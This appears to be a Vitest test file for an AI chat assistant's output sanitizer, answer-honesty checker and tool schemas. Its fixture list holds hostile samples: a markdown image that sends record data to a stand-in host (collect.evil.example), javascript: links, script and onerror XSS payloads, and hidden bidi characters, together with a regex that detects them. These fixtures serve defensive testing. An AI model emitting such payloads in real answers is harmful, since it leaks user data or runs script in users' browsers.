import { describe, expect, it } from 'vitest';
import { checkAnswer } from '../../../../server/ai/chat-model/check-answer.ts';
import { cleanText, streamCleaner } from '../../../../server/ai/chat-model/clean-text.ts';
import { fromStrict, strictSchema } from '../../../../server/ai/chat-model/strict-schema.ts';
import { CHAT_TOOL_NAMES, CHAT_TOOLS } from '../../../../server/ai/chat-model/tool-specs.ts';

const DIRTY = [
  'Here ![x](https://collect.evil.example/p?d=P-001,4200000) you go',
  'and [click](javascript:alert(1)) now',
  'a <img src=x onerror=alert(1)> picture',
  'a <script>alert(1)</script> script',
  'see https://evil.example/x?y=1 or www.evil.example or //evil.example/p',
  'an <a href="https://evil.example">anchor</a> and [[data:1234]]mail[[/data:1234]] [ref:package:P-777]',
  'half a tag <img src="https://evil.example/a.png"',
  'half a link [see](https://evil.example/a',
  'hidden \u200b\u202ewords\u0007',
];
const DANGER = /https?:|javascript:|evil\.example|<[a-z/!]|\[\[?\/?data|\[ref|[\u200b\u202e]|\p{Cc}/iu;

describe('cleanText', () => {
  it.each(DIRTY)('leaves nothing that loads, runs or leads away: %s', (text) => {
    expect(cleanText(text)).not.toMatch(DANGER);
  });

  it('keeps plain words, amounts, comparisons and paths of our own', () => {
    const text = 'P-001 costs EUR 4,200,000.00 (< 5 %), due 3 May 2027; see (/packages/P-001).\n- one\n- two';
    expect(cleanText(text)).toBe(text);
    expect(cleanText('see [P-001](/packages/P-001)')).toBe('see P-001 (/packages/P-001)');
  });

  it.each(DIRTY)('does the same in a stream, however it is cut: %s', (text) => {
    for (const size of [1, 2, 3, 5, 7, 11, 30]) {
      const cleaner = streamCleaner();
      let out = '';
      for (let at = 0; at < text.length; at += size) {
        const more = cleaner.push(text.slice(at, at + size));
        expect(out + more).not.toMatch(DANGER);
        out += more;
      }
      expect(out + cleaner.end()).not.toMatch(DANGER);
    }
  });
});

const checked = (text: string, made = { task: false, proposal: false }) =>
  checkAnswer(text, {
    said: 'what of P-001?',
    read: '{"code":"P-002","quote":"We cannot hold the delivery of 15 June for the pumps"}',
    prefixes: new Set(['P', 'WP', 'AR', 'T']),
    made,
  });

describe('checkAnswer', () => {
  it('refuses rows that were not read', () => {
    expect(checked('P-777 costs 1 EUR.').wrong).toBe('unread_rows');
    expect(checked('P-002 and P-001, as ISO-9001 has it.').wrong).toBeNull();
  });

  it.each([
    'I approved AR-31 for you.',
    'I have sent the mail.',
    'Done.',
    'created many tasks',
    'We’ve now rejected it',
    'Updated P-001 as you asked',
  ])('refuses a deed that was not done: %s', (text) => {
    expect(checked(text).wrong).toBe('not_done');
  });

  it.each([
    'Approved by Marcus on 3 March: P-001.',
    'P-001 was awarded; the order was sent by Marcus.',
    'Done with P-001 and P-002.',
    'Sent for approval: P-002.',
  ])('lets a report stand: %s', (text) => {
    expect(checked(text).wrong).toBeNull();
  });

  it('keeps what was done apart from what never is', () => {
    const made = { task: true, proposal: false };
    expect(checked('I created the task.', made).wrong).toBeNull();
    expect(checked('I created the task and I approved AR-1.', made).wrong).toBe('not_done');
  });

  it('drops a quote that stands nowhere', () => {
    const verdict = checked(
      'They write “We cannot hold the delivery of 15 June” and “we will pay you a million at once”.',
    );
    expect(verdict.text).toContain('We cannot hold');
    expect(verdict.text).not.toContain('million');
    expect(verdict.dropped).toHaveLength(1);
  });
});

describe('strict schemas of the tools', () => {
  const problems = (node: unknown, root = true): string[] => {
    if (typeof node !== 'object' || node === null) return [];
    const { type, properties, required, additionalProperties, items, anyOf, ...rest } = node as {
      type?: string;
      properties?: Record<string, unknown>;
      required?: string[];
      additionalProperties?: boolean;
      items?: unknown;
      anyOf?: unknown[];
    };
    const bad = Object.keys(rest).filter((key) => !['enum', 'const', 'description'].includes(key));
    if (root && type !== 'object') bad.push('root');
    if (
      properties &&
      (additionalProperties !== false || Object.keys(properties).some((key) => !required?.includes(key)))
    )
      bad.push('required');
    return [
      ...bad,
      ...Object.values(properties ?? {}).flatMap((one) => problems(one, false)),
      ...problems(items, false),
      ...Object.values(anyOf ?? {}).flatMap((one) => problems(one, false)),
    ];
  };

  it.each(CHAT_TOOL_NAMES)('%s has only what strict mode takes', (name) => {
    expect(problems(strictSchema(CHAT_TOOLS[name].input))).toEqual([]);
  });

  it('has the eight tools and none that decides, deletes, sends or runs', () => {
    expect(CHAT_TOOL_NAMES).toEqual([
      'search_packages',
      'get_package',
      'list_tasks',
      'list_approvals',
      'search_emails',
      'get_timeline',
      'create_task',
      'propose_change',
    ]);
  });

  it('takes nulls for what may be left out, and keeps what does not belong so that it is refused', () => {
    const { input } = CHAT_TOOLS.list_tasks;
    expect(fromStrict(input, { overdue: true, assignee: null })).toEqual({ overdue: true });
    const task = CHAT_TOOLS.create_task.input;
    expect(fromStrict(task, { title: 'x', package: 'P-1' })).toEqual({
      title: 'x',
      package: 'P-1',
      assignee: null,
      due: null,
    });
    expect(input.safeParse(fromStrict(input, { approved: true })).success).toBe(false);
  });
});
